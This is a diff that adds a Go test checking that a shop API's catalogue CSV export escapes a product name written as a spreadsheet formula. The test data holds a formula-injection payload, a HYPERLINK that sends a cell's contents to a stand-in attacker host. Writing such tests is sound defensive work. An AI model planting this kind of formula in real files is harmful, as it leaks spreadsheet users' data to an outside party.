@@ -807,3 +807,28 @@ func TestRecordedSaleQueuesWebhooks(t *testing.T) {
 		t.Fatal("no webhook delivery queued for the sale")
 	}
 }
+
+// A product whose name is a spreadsheet formula downloads as text, not as a formula.
+func TestCatalogueCSVHoldsNoFormula(t *testing.T) {
+	e := setup(t)
+	p := e.stocked(t, 1)[0]
+	e.DB.Exec(`UPDATE products SET name = ? WHERE id = ?`, `=HYPERLINK("http://evil.example/?"&A1,"Click")`, p.ID)
+	key := e.key(t, nil, models.ScopeCatalogRead)
+	res := e.call(t, "GET", "/ws/v1/catalog/products?format=csv", key, nil).Expect(t, http.StatusOK)
+	rows, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, r := range rows {
+		for _, c := range r {
+			if strings.HasPrefix(c, "=") {
+				t.Fatalf("a cell starts with '=': %q", c)
+			}
+			found = found || c == `'=HYPERLINK("http://evil.example/?"&A1,"Click")`
+		}
+	}
+	if !found {
+		t.Fatal("the product's name is missing from the download")
+	}
+}
